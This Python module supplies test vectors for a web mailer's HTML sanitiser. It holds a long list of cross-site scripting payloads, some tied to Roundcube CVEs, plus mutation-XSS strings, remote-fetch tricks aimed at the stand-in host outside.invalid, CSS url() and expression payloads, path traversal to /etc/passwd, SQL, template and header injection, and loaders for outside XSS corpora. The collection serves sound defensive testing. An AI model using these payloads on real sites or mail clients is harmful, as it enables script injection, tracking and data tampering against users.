"""What people tried in order to have a reader's browser run or fetch something: our own list, and those of the corpora.

`outside` stands for a host that is none of ours: nothing may be fetched from there."""
import json
import os

TESTS = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
CORPORA = os.environ.get('KAIRAN_CORPORA', os.path.join(os.path.dirname(TESTS), '../shared/corpora'))
OUT = 'http://outside.invalid/'

# Holes that were found in other web mailers, and what each sort of sanitiser fell for.
OWN = [
    # Roundcube: text put back behind the sanitiser (CVE-2024-42009), links of plain text (CVE-2020-35730, CVE-2023-43770), svg (CVE-2023-5631, 2024-37383)
    '<body title="bgcolor=foo" name="bar style=animation-name:progress-bar-stripes onanimationstart=alert(1) foo=bar">Foo</body>',
    '[<script>alert(1)</script>]: http://example.org/',
    '[1]: https://example.org/"onmouseover="alert(1)"x=" see [1]',
    '[x" onerror="alert(1)]: https://example.org/?a=<img src=x onerror=alert(1)>',
    'https://example.org/"onmouseover="alert(1)', "http://example.org/'onmouseover='alert(1)//", 'http://example.org/<svg/onload=alert(1)>',
    'http://example.org/&quot;onclick=alert(1)&quot;', 'javascript://example.org/%0aalert(1)', 'mailto:a@example.org?body="><script>alert(1)</script>',
    '<svg><a href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<svg id="x" width="100" height="100"><a xlink:href="javascript:alert(1)"><rect width="100" height="100"/></a></svg>',
    '<svg><animate attributeName="href " values="javascript:alert(1)" href="#link"/><a id="link"><text x="20" y="20">x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x"/></svg>',
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>', '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    '<svg/onload=alert(1)>', '<svg><script href="data:,alert(1)"/></svg>', '<svg><style><img src=x onerror=alert(1)></style></svg>',
    # names of elements and attributes in disguise
    '<ScRiPt>alert(1)</sCrIpT>', '<script/x>alert(1)</script>', '<script\n>alert(1)</script\t>', '<<script>alert(1)//<</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script>alert(1)', '<script src=' + OUT + 'x.js></script>', '<script src=//outside.invalid/x.js>', '<img/src=x/onerror=alert(1)>', '<img src=x:x onerror\n=alert(1)>',
    '<img src="x` `<script>alert(1)</script>"` `>', '<img """><script>alert(1)</script>">', '<img src=x onerror=alert(1)//', '<img src=1 onerror\x0c=alert(1)>',
    '<IMG SRC=x OnErRoR=alert(1)>', '<a href=x onclick=alert(1) autofocus onfocus=alert(1) tabindex=1>x</a>', '<div/onmouseover=alert(1)>x', '<p style="x" onclick="alert(1)" style="y">x',
    '<input autofocus onfocus=alert(1)>', '<details open ontoggle=alert(1)>x</details>', '<video src=x onerror=alert(1)></video>', '<audio src=' + OUT + 'a.mp3 autoplay>',
    '<marquee onstart=alert(1)>x</marquee>', '<select autofocus onfocus=alert(1)>', '<keygen autofocus onfocus=alert(1)>', '<body onload=alert(1)>', '<body background=' + OUT + 'b.png>',
    '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', '<iframe src=' + OUT + '></iframe>', '<iframe/src="data:text/html,<script>alert(1)</script>">',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>', '<object data=' + OUT + 'o></object>', '<embed src="javascript:alert(1)">', '<embed src=' + OUT + 'e.swf>',
    '<applet code=A archive=' + OUT + 'a.jar></applet>', '<frameset onload=alert(1)><frame src=' + OUT + '></frameset>', '<isindex action=javascript:alert(1) type=submit>', '<portal src=' + OUT + '></portal>',
    '<base href="javascript:alert(1)//"><a href="#">x</a>', '<base href=' + OUT + '><a href=x>x</a><img src=y>', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=' + OUT + '">', '<meta http-equiv=Content-Security-Policy content="default-src *">', '<meta charset=iso-2022-jp>', '<meta name=referrer content=unsafe-url>',
    '<form action=' + OUT + '><input name=q><button>x</button></form>', '<form><button formaction=javascript:alert(1)>x</button></form>', '<math><a xlink:href=javascript:alert(1)>x</a></math>',
    '<math><maction actiontype="statusline#' + OUT + '" xlink:href="javascript:alert(1)">x</maction></math>', '<xml id=x><script>alert(1)</script></xml>', '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>', '<xmp><p title="</xmp><svg/onload=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>', '<title><img title="</title><img src=x onerror=alert(1)>"></title>', '<plaintext><script>alert(1)</script>',
    # what a second parser reads otherwise than the first
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror="alert(1)"></style></annotation-xml></math>', '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>',
    '<table><tr><td><svg><desc><table><svg><desc></table><img src=x onerror=alert(1)>', '<select><style></select><img src=x onerror=alert(1)></style>',
    '<!--><script>alert(1)</script>-->', '<!---><script>alert(1)</script>-->', '<!--x--!><script>alert(1)</script>-->', '<!-- --!> <img src=x onerror=alert(1)> -->',
    '<![if gte IE 4]><script>alert(1)</script><![endif]>', '<!--[if true]><img src=x onerror=alert(1)><![endif]-->', '<?xml version="1.0"?><script>alert(1)</script>', '<? foo="><script>alert(1)</script>">',
    '<! foo="><script>alert(1)</script>">', '</ foo="><script>alert(1)</script>">', '<% foo><x foo="%><script>alert(1)</script>">', '<!doctype html><![CDATA[<img src=x onerror=alert(1)>]]>',
    '<a title="--><script>alert(1)</script>">x</a>', "<a title='</style><img src=x onerror=alert(1)>'>x</a>", '<p title="`><img src=x onerror=alert(1)>`">x', '<b title=`onmouseover=alert(1)`>x</b>',
    # addresses
    *('<a href="%s">x</a>' % url for url in (
        'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' \t javascript:alert(1)', 'java\nscript:alert(1)', 'java\tscript:alert(1)', 'java&#10;script:alert(1)', '&#x1;javascript:alert(1)', '&#106;avascript&colon;alert(1)',
        'javascript&#0000058alert(1)', 'javascript&Tab;:alert(1)', '&NewLine;javascript:alert(1)', 'vbscript:msgbox(1)', 'livescript:x', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD4=',
        'data:image/svg+xml,<svg onload=alert(1)>', 'feed:javascript:alert(1)', 'view-source:javascript:alert(1)', 'jar:http://outside.invalid!/x', 'file:///etc/passwd', 'ms-msdt:/id', 'tel:1', 'blob:x', 'filesystem:x',
        '//outside.invalid/', '/lists/', '?sign-in', '#x', 'http:outside.invalid', 'http:/outside.invalid', 'https:\\\\outside.invalid', '\x00javascript:alert(1)', '\u2028javascript:alert(1)', 'ｊavascript:alert(1)', 'https://a.example/\"onclick=alert(1)')),
    # pictures and other things from elsewhere
    *('<img src="%s">' % url for url in (OUT + 'p.gif', '//outside.invalid/p.gif', 'HTTPS://outside.invalid/p.gif', '/static/kairan.svg', 'x.png', 'javascript:alert(1)', 'data:image/svg+xml,<svg onload=alert(1)>',
                                         'data:image/svg+xml;base64,PHN2Zy8+', 'data:text/html,x', 'data:image/png,x', 'cid:nobody@example.org', 'cid:"onerror=alert(1)', ' http://outside.invalid/p.gif', 'ht\ntp://outside.invalid/p.gif')),
    '<img srcset="' + OUT + 'p.gif 2x">', '<picture><source srcset=' + OUT + 'p.gif><img></picture>', '<img lowsrc=' + OUT + 'l.gif dynsrc=' + OUT + 'd.avi>', '<image src=' + OUT + 'i.png>',
    '<input type=image src=' + OUT + 'i.png>', '<video poster=' + OUT + 'v.png></video>', '<table background=' + OUT + 't.png><tr><td background=' + OUT + 'c.png>x</table>', '<bgsound src=' + OUT + 's.mid>',
    '<link rel=stylesheet href=' + OUT + 's.css>', '<link rel=prefetch href=' + OUT + '>', '<link rel=dns-prefetch href=//outside.invalid>', '<link rel=icon href=' + OUT + 'i.ico>', '<script type=importmap>{"imports":{"x":"' + OUT + '"}}</script>',
    '<a href=https://example.org/ ping=' + OUT + '>x</a>', '<svg><image href=' + OUT + 'i.png /></svg>', '<svg><feImage xlink:href=' + OUT + 'i.png /></svg>', '<del cite=' + OUT + '>x</del>', '<q cite=' + OUT + '>x</q>',
    # styles
    '<style>@import url(' + OUT + 's.css);</style>', '<style>body{background:url(' + OUT + 'b.png)}</style>', '<style>*{x:expression(alert(1))}</style>', '<style>@font-face{font-family:x;src:url(' + OUT + 'f.woff)}</style>',
    *('<p style="%s">x</p>' % style for style in (
        'background:url(' + OUT + 'b.png)', 'background-image:url(&quot;' + OUT + 'b.png&quot;)', 'background:u\\72l(' + OUT + 'b.png)', 'background:/**/url(' + OUT + 'b.png)', 'width:expression(alert(1))', 'behavior:url(x.htc)',
        '-moz-binding:url(' + OUT + 'x.xml#a)', 'list-style:url(' + OUT + 'l.png)', 'list-style-image:url(' + OUT + 'l.png)', 'content:url(' + OUT + 'c.png)', 'cursor:url(' + OUT + 'c.cur),auto', 'position:fixed;top:0;left:0;width:100%;height:100%',
        'font-family:x;color:red}</style><script>alert(1)</script>', 'color:red;animation-name:x', '--x:url(' + OUT + ')', 'border-image:url(' + OUT + 'b.png) 1', 'mask:url(' + OUT + 'm.svg)', 'filter:url(' + OUT + 'f.svg#x)', 'width:calc(1px*99999)',
        'color:rgb(1,2,3);x', 'color:var(--x)', 'display:block;opacity:.01', 'margin:-100px')),
    # letters that look like others, and those that change how the rest is read
    '\x1b$B<script>alert(1)</script>\x1b(B', '\x1b(J\\<script>alert(1)</script>', '<a title="\x1b$B">x</a><a title="onclick=alert(1) ">x</a>', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '~{<script>alert(1)</script>~}',
    '\u202e<script>alert(1)</script>', '＜script＞alert(1)＜/script＞', '%3Cscript%3Ealert(1)%3C/script%3E', '&lt;script&gt;alert(1)&lt;/script&gt;', '&amp;lt;script&amp;gt;', '\\u003cscript\\u003ealert(1)', '\x00<script>alert(1)</script>', '\ufeff<script>',
    # for templates and other languages
    '<?cs include:"/etc/passwd" ?>', '<?cs var:Site.name ?>', '${7*7}', '{{7*7}}', '<%= 7*7 %>', "'; DROP TABLE post; --", '%s%n%x', '$name', '../../etc/passwd', '"><script>alert(1)</script>', "'-alert(1)-'", '</title><script>alert(1)</script>',
    '</textarea><script>alert(1)</script>', ']]><script>alert(1)</script>', '" autofocus onfocus="alert(1)', "' onmouseover='alert(1)", 'x\r\nX-Injected: yes\r\n\r\n<script>alert(1)</script>',
]


def corpora():
    """The attacks of dompurify, h5sc and Sympa, and MimeKit's pages; none when the corpora are not there."""
    for name, key in (('dompurify/vectors.json', 'payload'), ('h5sc/vectors.json', 'data'), ('sympa/sanitize.json', 'input')):
        path = os.path.join(CORPORA, 'html', name)
        if os.path.exists(path):
            with open(path, encoding='utf-8') as file:
                yield from (row[key] for row in json.load(file))
    folder = os.path.join(CORPORA, 'html/mimekit')
    for name in sorted(os.listdir(folder) if os.path.isdir(folder) else []):
        if name.endswith('.html') and not name.endswith('.out.html'):
            with open(os.path.join(folder, name), encoding='utf-8', errors='replace') as file:
                yield file.read()


def every():
    return OWN + list(corpora())
